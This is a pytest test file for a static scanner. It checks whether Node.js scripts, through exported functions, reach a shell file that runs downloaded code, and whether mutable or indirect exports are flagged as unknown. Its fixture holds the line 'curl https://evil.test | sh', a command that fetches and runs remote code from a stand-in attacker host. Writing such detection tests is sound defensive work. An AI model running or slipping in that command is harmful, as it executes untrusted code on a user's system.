"""What a file exports is known to those who require it, as long as nobody can change it."""

from __future__ import annotations

import pytest

from tests.builders import Files
from tests.scan.trees import beside, inspect, kinds, reached

CP = "const cp = require('child_process');"
TOLD = "const path = require('path'); const find = () => path.join(__dirname, 'own.sh');"
OWN: Files = {"lib/own.sh": "curl https://evil.test | sh"}


def outcome(lib: str, text: str, files: Files | None = None) -> tuple[bool, set[str]]:
    """Tell whether the file that a library names is reached, and what is not known."""
    every: Files = {**OWN, "lib/x.js": lib, "a.js": CP + text, **(files or {})}
    inspection = inspect("node a", every)
    return "lib/own.sh" in reached(inspection), kinds(inspection)


@pytest.mark.parametrize(
    ("lib", "text"),
    [
        (TOLD + "module.exports = { find };", "const { find } = require('./lib/x'); cp.execFileSync(find());"),
        (TOLD + "module.exports = { find };", "cp.execFileSync(require('./lib/x').find());"),
        (TOLD + "exports.find = find;", "const x = require('./lib/x'); cp.execFileSync(x.find());"),
        (TOLD + "exports.path = find();", "const x = require('./lib/x'); cp.execFileSync(x.path);"),
        (TOLD + "exports.path = find();", "const { path: p } = require('./lib/x.js'); cp.execFileSync(p);"),
        (TOLD + "module.exports.find = function () { return find() };", "cp.execFileSync(require('./lib/x').find());"),
        (TOLD + "module.exports = { path: find() };", "cp.execFileSync(require('./lib/x').path, ['x']);"),
    ],
)
def test_a_place_that_another_file_tells_is_looked_at(lib: str, text: str) -> None:
    assert outcome(lib, text) == (True, {"downloaded"})


@pytest.mark.parametrize(
    "lib",
    [
        TOLD + "exports.find = find; exports.find = () => f();",
        TOLD + "exports.find = find; exports[f()] = g;",
        TOLD + "exports.find = find; Object.assign(exports, f());",
        TOLD + "exports.find = find; const self = this; self.find = f;",
        TOLD + "exports.find = find; this.find = f;",
        TOLD + "exports.find = find; const e = exports; e.find = f;",
        TOLD + "exports.find = find; f({exports});",
        TOLD + "exports.find = find; module.exports = f();",
        TOLD + "exports.find = find; f(module);",
        "let at = f(); exports.find = () => at;",
        "let at = 'a'; exports.find = () => at; exports.set = v => { at = v };",
        "exports.find = async () => 'lib/own.sh';",
        "exports.find = function* () {};",
    ],
)
def test_what_is_not_plainly_exported_is_not_known(lib: str) -> None:
    assert "dynamic" in outcome(lib, "cp.execFileSync(require('./lib/x').find());")[1]


CHANGES = "f.find = () => './evil'"


@pytest.mark.parametrize(
    "other",
    [
        "const f = require('./lib/x'); " + CHANGES,
        "require('./lib/x').find = () => './evil'",
        "Object.assign(require('./lib/x'), {find: evil})",
        "const f = require('./lib/x'); g(f)",
        "const p = './lib/x'; require(p).find = evil",
        "const r = require; r('./lib/x').find = evil",
        "module.require('./lib/x').find = evil",
        "import('./lib/x').then(f => { f.default.find = evil })",
        "import f from './lib/x'; " + CHANGES,
        "import * as f from './lib/x'; f.default.find = evil",
        "module.parent.children[0].exports.find = evil",
        "require.cache[require.resolve('./lib/x')].exports.find = evil",
        "require('./lib/x')['fi' + 'nd'] = evil",
        "const f = require('./lib/x'); [f.find] = [evil]",
        "const f = require('./lib/x'); for (f.find of [evil]) {}",
        "const f = require('./lib/x'); ({a: f.find} = {a: evil})",
        "const f = require('./lib/x'); delete f.find",
        "const f = require('./lib/x'); g({f})",
        "const f = require('./lib/x'); const e = f; e.find = evil",
        "let f; f = require('./lib/x'); f.find = evil",
        "const f = require('./lib/x'); { const e = [f]; e[0].find = evil }",
        "const f = require('./lib/x'); f.find ||= evil",
        "const f = require('./lib/x'); f?.find; with (f) { find = evil }",
        "const f = require('./lib/x'); class A extends f {}",
        "const f = require('./lib/x'); f.__proto__ = evil",
        "const f = require('./lib/x'); f.__defineGetter__('find', evil)",
        "const {find: f} = Object.assign(require('./lib/x'), g)",
        "for (const k in require('./lib/x')) h(k); exports.lib = require('./lib/x')",
    ],
)
@pytest.mark.parametrize("last", [False, True])
def test_what_another_file_may_change_is_not_known(other: str, last: bool) -> None:  # noqa: FBT001 - a case
    uses = "const { find } = require('./lib/x'); cp.execFileSync(find());"
    loads = "require('./b');"
    text = f"{uses} {loads}" if last else f"{loads} {uses}"
    assert "dynamic" in outcome(TOLD + "exports.find = find;", text, {"b.js": other})[1]


def test_typescript_may_change_it_too() -> None:
    text = "const { find } = require('./lib/x'); cp.execFileSync(find()); require('./b.ts');"
    other = "import f = require('./lib/x'); f.find = evil;"
    assert "dynamic" in outcome(TOLD + "exports.find = find;", text, {"b.ts": other})[1]


def test_a_text_of_the_command_line_may_change_it_too() -> None:
    own = CP + "const { find } = require('./lib/x'); cp.execFileSync(find());"
    files: Files = {**OWN, "lib/x.js": TOLD + "exports.find = find;", "a.js": own}
    assert kinds(inspect("node a", files)) == {"downloaded"}
    assert "dynamic" in kinds(inspect("node -e \"require('./lib/x').find = evil; require('./a')\"", files))


def test_another_package_that_names_this_one_may_change_it_too() -> None:
    other = beside("other", {"index.js": "require('example/lib/x').find = () => evil"})
    own = CP + "require('other'); const { find } = require('./lib/x'); cp.execFileSync(find());"
    files: Files = {**OWN, "lib/x.js": TOLD + "exports.find = find;", "a.js": own}
    assert "dynamic" in kinds(inspect("node a", files, other))


def test_so_does_the_file_itself() -> None:
    text = "const x = require('./lib/x'); x.find = () => './evil'; cp.execFileSync(x.find());"
    assert "dynamic" in outcome(TOLD + "exports.find = find;", text)[1]


def test_what_a_function_gives_for_an_argument_is_not_known() -> None:
    lib = "exports.find = name => name; exports.other = function (n = './x') { return n };"
    assert "dynamic" in outcome(lib, "cp.execFileSync(require('./lib/x').find('./lib/own.sh'));")[1]
    assert "dynamic" in outcome(lib, "cp.execFileSync(require('./lib/x').other());")[1]
